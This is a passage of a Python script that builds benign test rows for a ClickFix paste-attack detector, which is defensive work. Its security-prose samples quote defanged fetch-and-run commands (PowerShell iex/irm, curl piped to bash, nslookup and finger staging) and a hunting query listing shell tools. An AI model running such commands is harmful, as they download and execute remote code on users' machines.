        "https://wiki.intranet.contoso.example/it/printers",
        "Add-Printer -ConnectionName \\\\print01.corp.contoso.example\\HR-Floor3-Color",
    ),
    (
        "https://wiki.intranet.contoso.example/it/vpn",
        'Add-VpnConnection -Name "Contoso VPN" -ServerAddress vpn.contoso.example -TunnelType Ikev2 -AuthenticationMethod Eap -SplitTunneling -RememberCredential',
    ),
    (
        "https://docs.github.com/en/authentication/connecting-to-github-with-ssh/generating-a-new-ssh-key-and-adding-it-to-the-ssh-agent",
        'ssh-keygen -t ed25519 -C "your_email@example.com"\nGet-Service -Name ssh-agent | Set-Service -StartupType Manual\nStart-Service ssh-agent\nssh-add c:/Users/YOU/.ssh/id_ed25519',
    ),
]:
    ok(ADMIN, TERM, source, text)

# --- Dev and ops one-liners ------------------------------------------------------------------------

DEVOPS = "devops-oneliner"
for source, text in [
    (
        "https://docs.docker.com/reference/cli/docker/system/prune/",
        "docker system prune -af --volumes",
    ),
    (
        "https://kubernetes.io/docs/reference/kubectl/quick-reference/",
        "kubectl get pods -A --field-selector=status.phase!=Running -o wide",
    ),
    ("https://git-scm.com/docs/git-log", "git log --oneline --graph --decorate --all -n 30"),
    (
        "https://stackoverflow.com/questions/4822471/count-number-of-lines-in-a-git-repository",
        "git ls-files | xargs wc -l | sort -n | tail -20",
    ),
    (
        "https://jqlang.org/manual/",
        "curl -s https://api.github.com/repos/jqlang/jq/releases/latest | jq -r '.assets[].browser_download_url'",
    ),
    (
        "https://www.postgresql.org/docs/current/app-pgdump.html",
        "pg_dump -Fc -h db.internal -U app appdb > appdb-$(date +%F).dump",
    ),
    (
        "https://man7.org/linux/man-pages/man1/find.1.html",
        "find . -name '*.log' -mtime +14 -print -delete",
    ),
    (
        "https://stackoverflow.com/questions/3510673/find-and-kill-a-process-in-one-line-using-bash-and-regex",
        "lsof -ti tcp:3000 | xargs kill -9",
    ),
    (
        "https://docs.aws.amazon.com/cli/latest/reference/s3/sync.html",
        "aws s3 sync ./dist s3://my-site-bucket --delete --cache-control max-age=3600",
    ),
    (
        "https://developer.hashicorp.com/terraform/cli/commands/plan",
        "terraform plan -out=tfplan -var-file=env/prod.tfvars",
    ),
    (
        "https://openssl-library.org/docs/man3.0/man1/openssl-s_client/",
        "openssl s_client -connect example.com:443 -servername example.com </dev/null 2>/dev/null | openssl x509 -noout -dates -subject",
    ),
    (
        "https://rsync.samba.org/documentation.html",
        "rsync -avz --progress --exclude node_modules ./ deploy@web01:/srv/app/",
    ),
    (
        "https://www.gnu.org/software/tar/manual/tar.html",
        "tar --exclude='.git' -czf project-$(date +%Y%m%d).tar.gz project/",
    ),
    (
        "https://docs.python.org/3/library/http.server.html",
        "python3 -m http.server 8000 --bind 127.0.0.1",
    ),
    (
        "https://ffmpeg.org/ffmpeg.html",
        "ffmpeg -i input.mov -c:v libx264 -crf 23 -preset medium -c:a aac -b:a 128k output.mp4",
    ),
]:
    ok(DEVOPS, TERM, source, text)

# --- Console JavaScript developers really paste ---------------------------------------------------

JS = "console-snippet"
for source, text in [
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Performance/getEntriesByType",
        "performance.getEntriesByType('resource').filter(r => r.duration > 500).map(r => [r.name, Math.round(r.duration)])",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/utilities",
        "copy(JSON.stringify(Object.fromEntries(new URLSearchParams(location.search)), null, 2))",
    ),
    (
        "https://stackoverflow.com/questions/16991341/json-parse-file-path",
        "fetch('/api/health').then(r => r.json()).then(console.table)",
    ),
    (
        "https://web.dev/articles/lcp",
        "new PerformanceObserver((l) => l.getEntries().forEach((e) => console.log('LCP', e.startTime, e.element))).observe({type: 'largest-contentful-paint', buffered: true});",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Document/querySelectorAll",
        "[...document.querySelectorAll('a[href^=\"http\"]')].map(a => a.href).filter((v, i, s) => s.indexOf(v) === i)",
    ),
    (
        "https://developer.chrome.com/docs/devtools/storage/localstorage",
        "Object.keys(localStorage).forEach(k => console.log(k, localStorage.getItem(k).length))",
    ),
    (
        "https://react.dev/learn/react-developer-tools",
        "document.querySelectorAll('[data-testid]').length",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Clipboard/writeText",
        "await navigator.clipboard.writeText(document.title + ' ' + location.href)",
    ),
    (
        "https://stackoverflow.com/questions/1248081/how-to-get-the-browser-viewport-dimensions",
        "console.log(window.innerWidth, window.innerHeight, devicePixelRatio)",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Service_Worker_API/Using_Service_Workers",
        "navigator.serviceWorker.getRegistrations().then(rs => rs.forEach(r => r.unregister()))",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/api",
        "console.time('render'); renderList(items); console.timeEnd('render')",
    ),
    (
        "https://docs.sentry.io/platforms/javascript/troubleshooting/",
        "Sentry.captureMessage('console test from ' + location.hostname)",
    ),
    (
        "https://stackoverflow.com/questions/8567114/how-can-i-make-an-ajax-call-without-jquery",
        "fetch('/api/v2/items?limit=5', {headers: {'Accept': 'application/json'}}).then(r => r.json()).then(d => console.log(d.items))",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Document/designMode",
        "document.designMode = 'on'",
    ),
]:
    ok(JS, CON, source, text)

# --- Prose about ClickFix, with defanged commands ---------------------------------------------------

PROSE = "prose-security"
for source, text in [
    (
        "https://www.security-weekly-notes.example/2026/11/clickfix-roundup",
        'This week\'s ClickFix pages asked visitors to press Win+R and paste a line such as `powershell -w h -c "iex(irm hxxps://bad[.]example/a)"`. The comment after the command ("I am not a robot") is padded so the Run box shows only the comment. Block mshta and PowerShell from the Run dialog where you can.',
    ),
    (
        "https://blog.soc-team.example/posts/filefix-explained",
        'FileFix moves the trick into File Explorer: the victim is told to paste a "file path" into the address bar. The clipboard actually holds a PowerShell command followed by many spaces and `# C:\\HR\\Policy.docx`, so only the fake path is visible. Defenders should look for powershell.exe spawned by explorer.exe with a long command line.',
    ),
    (
        "https://www.threat-intel-digest.example/macos-stealers-2026",
        "macOS stealers now arrive through Terminal: the page copies `echo <base64> | base64 -D | zsh` to the clipboard and shows instructions for Cmd+Space → Terminal → Cmd+V. The decoded stage runs `curl hxxp://203.0.113[.]10/x | bash`. Never paste commands from a website into Terminal.",
    ),
    (
        "https://it.university.example/security/awareness/paste-attacks",
        'IT will never ask you to open the Run box (Windows key + R) or Terminal and paste something to "verify" you are human. If a website does this, close the tab and report it to security@university.example.',
    ),
    (
        "https://www.infosec-forum.example/t/kongtuke-nslookup",
        "KongTuke now stages through DNS: `nslookup -q=txt stage[.]example 203.0.113[.]7` and the TXT answer is run by cmd's `for /f`. Hunting tip: cmd.exe with nslookup and findstr in one command line from explorer.exe.",
    ),
    (
        "https://github.com/example-org/detection-notes/blob/main/clickfix.md",
        '## ClickFix hunting query\n\n```kql\nDeviceRegistryEvents\n| where RegistryKey has @"Explorer\\RunMRU"\n| where RegistryValueData has_any ("powershell", "mshta", "curl", "finger")\n```\nIndicators are defanged: hxxps://captcha-check[.]example/verify',
    ),
    (
        "https://www.news-tech.example/2026/12/crashfix-extension",
        'Researchers describe CrashFix: a fake ad-blocker extension crashes the browser and a page then offers a "recovery command" to paste into the Run dialog. The command copies finger.exe under another name and runs `ct.exe user@host[.]example | cmd`.',
    ),
    (
        "https://docs.internal.example/runbooks/consentfix",
        "ConsentFix: the attacker's page asks the user to sign in to Azure CLI and then paste the resulting localhost URL (http://localhost:<port>/?code=…) back into the page. Revoke refresh tokens for affected users with Revoke-MgUserSignInSession.",
    ),
    (
        "https://www.malware-notes.example/etherhiding",
        "EtherHiding stores the next stage in a smart contract: the injected script calls eth_call on a public BSC RPC endpoint and decodes the returned bytes into JavaScript. Because the data sits on a blockchain, takedowns do not work.",
    ),
    (
        "https://www.helpdesk-weekly.example/tech-support-scams",
        'Tech-support scam pages go full screen, play an alarm and show a phone number "to call Microsoft". Microsoft never puts phone numbers in error messages. Press Esc, close the browser with Task Manager and run a normal scan.',
    ),
    (
        "https://blog.purple-team.example/2026/10/emulating-clickfix",
        'For the purple-team exercise we used a harmless payload: `powershell -w h -c "Start-Process calc"` padded with 60 spaces and a fake reCAPTCHA comment. EDR raised an alert on the RunMRU write in 8 of 10 machines.',
    ),
    (
        "https://www.cert-bulletin.example/advisories/2026-044",
        'Advisory 2026-044: fake Microsoft Teams "audio repair" pages deliver a PowerShell one-liner through Windows Terminal (Win+X, I). Indicators (defanged): teams-fix[.]example, 198.51.100[.]24, SHA-256 9f2c…a41e. Recommended: restrict Windows Terminal via AppLocker for non-admin users.',
    ),
]:
    ok(PROSE, "other", source, text)

# --- Genuine messages with phone numbers, in several languages -------------------------------------

MAIL = "support-mail"
for source, text in [
    (
        "https://mail.google.com/mail/u/0/#inbox/FMfcgzQXJ",
        "Hi Sam, thanks for calling us today. Your ticket #48213 (laptop battery swelling) is booked for a repair on Thursday. If you need to change the time, call the service desk on +44 20 7946 0321 between 8am and 6pm.",
    ),
    (
        "https://outlook.office.com/mail/inbox/id/AAQkAD",
        "Sehr geehrte Frau Keller,\nIhr Termin zur Kontoeröffnung ist am 12.12. um 10:30 Uhr in unserer Filiale Marktplatz. Bei Fragen erreichen Sie uns unter 030 23125 000 (Mo–Fr 9–18 Uhr).\nMit freundlichen Grüßen\nIhre Sparkasse",
    ),
    (
        "https://mail.yahoo.com/d/folders/1/messages/4412",
        "Bonjour M. Durand,\nVotre colis n° 6A1234567890 sera livré demain entre 9 h et 13 h. Pour modifier la livraison, connectez-vous à votre espace client ou appelez le 01 99 00 45 67.",
    ),
    (
        "https://mail.proton.me/u/0/inbox/7Yq",
        "Hola Lucía: te confirmamos la cita con la Dra. Ortega el martes 16 a las 17:00. Si no puedes asistir, avísanos al 910 555 123 con 24 horas de antelación. Clínica Dental Sonrisa.",
    ),
    (
        "https://outlook.live.com/mail/0/inbox/id/AQMkAD",
        "Gentile cliente, la sua pratica di rimborso n. 55120 è stata approvata. L'accredito avverrà entro 5 giorni lavorativi. Per informazioni può contattare il servizio clienti al numero 02 5550 1234 dal lunedì al venerdì.",
    ),
    (
        "https://mail.google.com/mail/u/1/#inbox/KtbxLzG",
        "Olá Pedro, a sua encomenda nº 88412 foi enviada. Acompanhe a entrega no site da transportadora. Dúvidas: (11) 5555-0123, de segunda a sexta, das 9h às 18h.",
    ),
    (
        "https://teams.microsoft.com/l/message/19:abc",
        "Hi all — the office phones move to the new system on Monday. Your extension stays the same; the reception number is now +1 (312) 555-0100. If your desk phone shows 'No service', call IT on ext. 4400.",
    ),
    (
        "https://mail.google.com/mail/u/0/#inbox/QgrcJHs",
        "Beste meneer de Vries, uw afspraak bij de huisarts is verplaatst naar woensdag 14:15. Kunt u niet? Bel dan de praktijk: 020 555 0198.",
    ),
    (
        "https://poczta.onet.pl/#/mail/inbox/123",
        "Dzień dobry, przypominamy o wizycie serwisowej kotła gazowego w dniu 9 grudnia w godz. 8–12. W razie zmiany terminu prosimy o kontakt pod numerem 22 555 01 23.",
    ),
    (
        "https://mail.yandex.ru/?uid=1#message/177",
        "Здравствуйте, Анна! Ваш заказ № 40215 готов к выдаче в пункте самовывоза на ул. Ленина, 12. Часы работы: 10:00–21:00. Телефон для справок: +7 (495) 555-01-23.",
    ),
    (
        "https://mail.naver.com/v2/read/0/5531",
        "안녕하세요, 고객님. 주문하신 상품이 12월 8일에 배송될 예정입니다. 배송 관련 문의는 고객센터 02-555-0134로 연락 주세요.",
    ),
    (
        "https://mail.qq.com/cgi-bin/frame_html?sid=abc#mail/12",
        "您好，您在本店预订的餐位（12月20日 18:30，4人）已确认。如需更改，请致电 010-5550-1234。期待您的光临！",
    ),
    (
        "https://mail.google.com/mail/u/0/#inbox/Wxs9",
        "Merhaba Ayşe Hanım, aracınızın periyodik bakımı tamamlandı. Teslim almak için 18:00'e kadar servisimize gelebilirsiniz. Bilgi için: 0212 555 01 23.",
    ),
    (
        "https://outlook.office.com/mail/inbox/id/AAMk",
        "Hej Erik! Din bokning av konferensrummet Fjällen den 10 december kl. 13–15 är bekräftad. Frågor? Ring receptionen på 08-555 012 34.",
    ),
    (
        "https://mail.google.com/mail/u/0/#inbox/Bank-Notice",
        "Dear customer, your new debit card ending 4417 has been posted and should arrive within 5 working days. You never need to share your PIN or passcode with us. If you have questions, call the number on the back of your card.",
    ),
]:
    ok(MAIL, "other", source, text)

# --- OAuth documentation with example redirect addresses ---------------------------------------------

OAUTH = "oauth-docs"
for source, text in [
    (
        "https://learn.microsoft.com/en-us/entra/identity-platform/v2-oauth2-auth-code-flow",
        "GET https://login.microsoftonline.com/{tenant}/oauth2/v2.0/authorize?\nclient_id=00001111-aaaa-2222-bbbb-3333cccc4444\n&response_type=code\n&redirect_uri=http%3A%2F%2Flocalhost%2Fmyapp%2F\n&response_mode=query\n&scope=https%3A%2F%2Fgraph.microsoft.com%2Fmail.read\n&state=12345",
    ),
    (
        "https://docs.github.com/en/apps/oauth-apps/building-oauth-apps/authorizing-oauth-apps",
        "POST https://github.com/login/oauth/access_token\nclient_id=Iv1.8a61f9b3a7aba766&client_secret=...&code=CODE_FROM_CALLBACK&redirect_uri=http://127.0.0.1:8080/callback",
    ),
    (
        "https://developers.google.com/identity/protocols/oauth2/native-app",
        "http://127.0.0.1:port/?code=4/P7q7W91a-oMsCeLvIaQm6bTrgtp7&scope=https://www.googleapis.com/auth/drive.metadata.readonly",
    ),
    (
        "https://www.oauth.com/oauth2-servers/device-flow/user-flow/",
        'Example device flow response:\n{\n  "device_code": "NGU5OWFiNjQ5YmQwNGY3YTdmZTEyNzQ3YzQ1YSA",\n  "user_code": "BDWD-HQPK",\n  "verification_uri": "https://example.okta.com/device",\n  "interval": 5,\n  "expires_in": 1800\n}',
    ),
    (
        "https://auth0.com/docs/get-started/authentication-and-authorization-flow/authorization-code-flow-with-pkce",
        "https://{yourDomain}/authorize?response_type=code&code_challenge={codeChallenge}&code_challenge_method=S256&client_id={yourClientId}&redirect_uri={yourCallbackUrl}&scope=openid%20profile",
    ),
    (
        "https://datatracker.ietf.org/doc/html/rfc8252",
        "   The authorization server redirects to:\n\n     http://127.0.0.1:51004/oauth2redirect/example-provider?code=xyz&state=abc",
    ),
    (
        "https://learn.microsoft.com/en-us/cli/azure/authenticate-azure-cli-interactively",
        "az login --use-device-code",
    ),
]:
    ok(OAUTH, "other", source, text)

# --- Run box and Explorer entries people type -----------------------------------------------------

RUNBOX = "run-box-plain"
for text in [
    "%appdata%",
    "%localappdata%\\Temp",
    "shell:startup",
    "shell:common startup",
    "shell:downloads",
    "ms-settings:windowsupdate",
    "ms-settings:network-proxy",
    "ms-settings:appsfeatures",
    "control",
    "control mouse",
    "control /name Microsoft.DeviceManager",
    "ncpa.cpl",
    "appwiz.cpl",
    "sysdm.cpl",
    "firewall.cpl",
    "inetcpl.cpl",
    "services.msc",
    "taskschd.msc",
    "eventvwr.msc",
    "compmgmt.msc",
    "gpedit.msc",
    "msinfo32",
    "dxdiag",
    "cleanmgr",
    "resmon",
    "optionalfeatures",
    "notepad C:\\Windows\\System32\\drivers\\etc\\hosts",
    "\\\\fileserver01\\Public",
    "https://intranet.contoso.example/helpdesk",
    "osk",
    "calc",
    "winword",
]:
    ok(RUNBOX, RUN, None, text)

EXPLORER = "explorer-entry"
for text in [
    "%appdata%\\Microsoft\\Windows\\Recent",
    "shell:AppsFolder",
    "shell:::{21EC2020-3AEA-1069-A2DD-08002B30309D}",
    "C:\\Program Files\\WindowsApps",
    "\\\\nas.home.arpa\\media\\Movies",
    "%USERPROFILE%\\OneDrive\\Desktop",
    "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs",
    "This PC\\Documents\\Taxes\\2025",
    "ftp://ftp.example.com/pub/",
    "C:\\Users\\Public\\Desktop",
    "Control Panel\\All Control Panel Items\\Power Options",
]:
    ok(EXPLORER, EXP, None, text)

# --- Config, source and logs pasted into editors --------------------------------------------------

CONFIG = "config-code"
for source, text in [
    (
        "https://github.com/example-org/infra/blob/main/nginx/site.conf",
        "server {\n    listen 443 ssl http2;\n    server_name app.example.com;\n    ssl_certificate /etc/letsencrypt/live/app.example.com/fullchain.pem;\n    location / {\n        proxy_pass http://127.0.0.1:8080;\n        proxy_set_header Host $host;\n    }\n}",
    ),
    (
        "https://docs.ansible.com/ansible/latest/collections/ansible/builtin/get_url_module.html",
        "- name: Download installer\n  ansible.builtin.get_url:\n    url: https://releases.hashicorp.com/consul/1.20.1/consul_1.20.1_linux_amd64.zip\n    dest: /tmp/consul.zip\n    checksum: sha256:https://releases.hashicorp.com/consul/1.20.1/consul_1.20.1_SHA256SUMS",
    ),
    (
        "https://github.com/example-org/webapp/blob/main/.github/workflows/deploy.yml",
        "- name: Install Fly\n  run: curl -L https://fly.io/install.sh | sh\n- name: Deploy\n  run: ~/.fly/bin/flyctl deploy --remote-only\n  env:\n    FLY_API_TOKEN: ${{ secrets.FLY_API_TOKEN }}",
    ),
    (
        "https://github.com/example-org/cli/blob/main/src/main.rs",
        'fn main() -> anyhow::Result<()> {\n    let args = Args::parse();\n    let cfg = Config::load(&args.config)?;\n    let client = reqwest::blocking::Client::new();\n    let body = client.get(&cfg.endpoint).send()?.text()?;\n    println!("{}", body);\n    Ok(())\n}',
    ),
    (
        "https://github.com/example-org/dotfiles/blob/main/Microsoft.PowerShell_profile.ps1",
        "Invoke-Expression (&starship init powershell)\nImport-Module Terminal-Icons\nSet-Alias -Name g -Value git\nfunction ll { Get-ChildItem -Force @args }",
    ),
    (
        "https://github.com/example-org/scripts/blob/main/backup.sh",
        '#!/usr/bin/env bash\nset -euo pipefail\nSTAMP=$(date +%F)\nrestic -r sftp:backup@nas:/srv/restic backup /home --exclude-caches\nrestic forget --keep-daily 7 --keep-weekly 4 --prune\necho "backup $STAMP done"',
    ),
    (
        "https://github.com/example-org/app/blob/main/docker-compose.yml",
        'services:\n  db:\n    image: postgres:17\n    environment:\n      POSTGRES_PASSWORD: example\n    volumes:\n      - pgdata:/var/lib/postgresql/data\n  web:\n    build: .\n    ports:\n      - "8080:8080"\nvolumes:\n  pgdata: {}',
    ),
    (
        "https://github.com/example-org/app/blob/main/Makefile",
        "install:\n\tcurl -LsSf https://astral.sh/uv/install.sh | sh\n\tuv sync\n\ntest:\n\tuv run pytest -q",
    ),
    (
        None,
        "2026-12-05 21:14:03,118 ERROR [worker-3] Job 88213 failed: ConnectionResetError(104, 'Connection reset by peer') while GET https://api.partner.example/v1/orders?page=12\n2026-12-05 21:14:03,119 INFO  [worker-3] retrying in 30s (attempt 2/5)",
    ),
    (
        None,
        "Dec  5 22:01:44 web01 sshd[21877]: Failed password for invalid user admin from 203.0.113.45 port 51122 ssh2\nDec  5 22:01:47 web01 sshd[21877]: Connection closed by invalid user admin 203.0.113.45 port 51122 [preauth]",
    ),
    (
        None,
        "PS C:\\> Get-Service | Where-Object Status -eq 'Stopped' | Select-Object -First 3\n\nStatus   Name               DisplayName\n------   ----               -----------\nStopped  AppIDSvc           Application Identity\nStopped  AppMgmt            Application Management\nStopped  AppReadiness       App Readiness",
    ),
]:
    ok(CONFIG, "other", source, text)


# ----------------------------------------------------------------------------------------------
# Checks and writing
# ----------------------------------------------------------------------------------------------

RESERVED_TLDS = ("test", "invalid", "example")
# Hosts a lure may name besides reserved ones: real services the lure only mentions (a device
# login page, a token contract) and never fetches code from.
NAMED_NOT_FETCHED = {"www.google.com", "github.com"}
HOST_RE = re.compile(
    r"(?:https?:|\\\\|@)/?/?\[?([A-Za-z0-9.:-]+\.[A-Za-z]{2,}|[0-9a-fA-F:]+:[0-9a-fA-F:]*)"
)
NAME_RE = re.compile(r"\b((?:[a-z0-9-]+\.)+(?:test|invalid|example))\b", re.IGNORECASE)


def _numbered(prefix: str, keys: list[str]) -> list[str]:
    counts: dict[str, int] = {}
    ids = []
    for key in keys:
        counts[key] = counts.get(key, 0) + 1
        ids.append(f"{prefix}-{key}-{counts[key]:02d}")
    return ids


def _domain(host: str) -> str:
    """The registrable domain of a reserved name (their suffixes are one label)."""
    return ".".join(host.lower().strip(".").split(".")[-2:])


def _check_unrelated(source: str, text: str) -> None:
    """A lure's page shares no registrable domain with any reserved name its text mentions (the
    hosts it fetches from above all), and every host it fetches from is reserved (the brief)."""
    page_host = re.match(r"https?://([^/]+)", source)
    if page_host is None:
        raise SystemExit(f"lure page {source!r} is not a web address")
    page = _domain(page_host.group(1))
    if page.split(".")[-1] not in RESERVED_TLDS:
        raise SystemExit(f"lure page {source} is not a reserved name")
    names = {_domain(h) for h in NAME_RE.findall(text)}
    if page in names:
        raise SystemExit(f"lure page {source} shares its domain with a host in {text[:80]!r}")
    for host in HOST_RE.findall(text):
        host = host.lower().rstrip(".")
        if "." in host:
            host = host.split(":")[0]
        if host in NAMED_NOT_FETCHED or host.split(".")[-1] in RESERVED_TLDS:
            continue
        try:
            ip = ipaddress.ip_address(host)
        except ValueError:
            ip = None
        reserved_nets = ("192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24", "2001:db8::/32")
        if ip is not None and any(ip in ipaddress.ip_network(n) for n in reserved_nets):
            continue
        if re.fullmatch(r"[0-9.x]+", host):  # an IP written in octal or hex: checked by hand
            continue
        raise SystemExit(f"lure names a host that is not reserved: {host!r} in {text[:80]!r}")


def lure_rows() -> list[dict[str, str]]:
    for _, _, source, text, _, _ in LURES:
        _check_unrelated(source, text)
    ids = _numbered("blind4", [t for t, *_ in LURES])
    return [
        {
            "id": i,
            "text": text,
            "expect": expect,
            "technique": technique,
            "platform": platform,
            "source": source,
            "target": target,
        }
        for i, (technique, target, source, text, expect, platform) in zip(ids, LURES, strict=True)
    ]


def benign_rows() -> list[dict[str, str]]:
    ids = _numbered("blind4-ok", [k for k, *_ in BENIGN])
    rows = []
    for i, (kind, target, source, text) in zip(ids, BENIGN, strict=True):
        row = {"id": i, "text": text, "expect": "not_flagged", "kind": kind}
        if source:
            row["source"] = source
        row["target"] = target
        rows.append(row)
    # The same installer may be quoted by its own page and by a tutorial; never twice by one kind.
    keys = [(r["kind"], r["text"]) for r in rows]
    if len(set(keys)) != len(keys):
        raise SystemExit("a benign text is repeated within its kind")
    return rows


def write(path: Path, rows: list[dict[str, str]]) -> None:
    with path.open("w", encoding="utf-8") as handle:
        for row in rows:
            handle.write(json.dumps(row, ensure_ascii=False) + "\n")


def main() -> None:
    lures, benign = lure_rows(), benign_rows()
    write(LURES_OUT, lures)
    write(BENIGN_OUT, benign)
    own_page = sum(r["kind"] == OWN for r in benign)
    techniques = len({r["technique"] for r in lures})
    print(
        f"{LURES_OUT.name}: {len(lures)} lures over {techniques} techniques; "
        f"{BENIGN_OUT.name}: {len(benign)} benign ({own_page} installers from their own page)"
    )


if __name__ == "__main__":
    main()
